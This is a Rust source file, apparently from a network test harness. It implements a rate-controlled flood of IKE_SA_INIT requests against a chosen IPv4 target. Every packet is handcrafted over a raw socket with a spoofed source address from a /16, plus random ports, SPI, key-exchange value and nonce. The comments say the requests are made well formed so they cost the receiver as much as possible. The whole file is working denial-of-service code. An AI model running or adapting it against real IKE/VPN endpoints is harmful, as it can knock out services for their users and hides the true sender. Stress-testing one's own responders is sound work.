//! A flood of IKE_SA_INIT requests from addresses that are not ours, at a steady rate.
//!
//! Every request is well formed (RFC 7296, 1.2: SA, KE, Nonce), so that it costs the receiver as much as it can.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, Socket, Type};

use super::content::Content;
use crate::outcome::{Context, Result};

/// What to send.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    pub to: Ipv4Addr,
    /// The sources: this network's 65,536 addresses, all ports.
    pub from: [u8; 2],
    pub per_second: u32,
    pub lasting: Duration,
}

impl Flood {
    /// Sends from the calling thread's namespace; gives the number of packets that were sent.
    pub fn run(self) -> Result<u64> {
        let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255))).context("raw socket")?;
        let to = SocketAddr::V4(SocketAddrV4::new(self.to, 0)).into();
        let (start, mut sent) = (Instant::now(), 0u64);
        let mut random = Content::new(0xf100d);
        while start.elapsed() < self.lasting {
            let due = (start.elapsed().as_secs_f64() * f64::from(self.per_second)) as u64;
            for _ in sent..due {
                // A full queue loses a packet, as a network would.
                let _ = socket.send_to(&request(self.from, self.to, &mut random), &to);
            }
            sent = sent.max(due);
            std::thread::sleep(Duration::from_millis(1));
        }
        Ok(sent)
    }
}

/// IPv4, UDP and an IKE_SA_INIT request with random source, SPI, public value and nonce.
pub fn request(from: [u8; 2], to: Ipv4Addr, random: &mut Content) -> Vec<u8> {
    let mut dice = [0; 12];
    random.fill(&mut dice);
    let ike = ike_sa_init(random);
    let udp_length = 8 + ike.len();
    let mut packet = Vec::with_capacity(20 + udp_length);
    packet.extend([0x45, 0]);
    packet.extend(((20 + udp_length) as u16).to_be_bytes());
    packet.extend([dice[0], dice[1], 0, 0, 64, 17, 0, 0, from[0], from[1], dice[2], dice[3]]);
    packet.extend(to.octets());
    // The kernel fills the IPv4 checksum in; a UDP checksum of zero means none.
    packet.extend(u16::from_be_bytes([dice[4] | 4, dice[5]]).to_be_bytes());
    packet.extend(500u16.to_be_bytes());
    packet.extend((udp_length as u16).to_be_bytes());
    packet.extend([0, 0]);
    packet.extend(ike);
    packet
}

/// SA { aes128gcm16, prfsha256, curve25519 }, KE, Nonce.
fn ike_sa_init(random: &mut Content) -> Vec<u8> {
    let mut fresh = [0; 8 + 32 + 32];
    random.fill(&mut fresh);
    let transforms: [&[u8]; 3] = [
        &[3, 0, 0, 12, 1, 0, 0, 20, 0x80, 14, 0, 128],
        &[3, 0, 0, 8, 2, 0, 0, 5],
        &[0, 0, 0, 8, 4, 0, 0, 31],
    ];
    let transforms = transforms.concat();
    let proposal = [&[0, 0, 0, 8 + transforms.len() as u8, 1, 1, 0, 3], transforms.as_slice()].concat();
    let sa = [&[34, 0, 0, 4 + proposal.len() as u8], proposal.as_slice()].concat();
    let ke = [&[40, 0, 0, 40, 0, 31, 0, 0], &fresh[8..40]].concat();
    let nonce = [&[0, 0, 0, 36], &fresh[40..72]].concat();
    let length = (28 + sa.len() + ke.len() + nonce.len()) as u32;
    let mut message = fresh[..8].to_vec();
    message.extend([0; 8]);
    message.extend([33, 0x20, 34, 0x08, 0, 0, 0, 0]);
    message.extend(length.to_be_bytes());
    [message, sa, ke, nonce].concat()
}
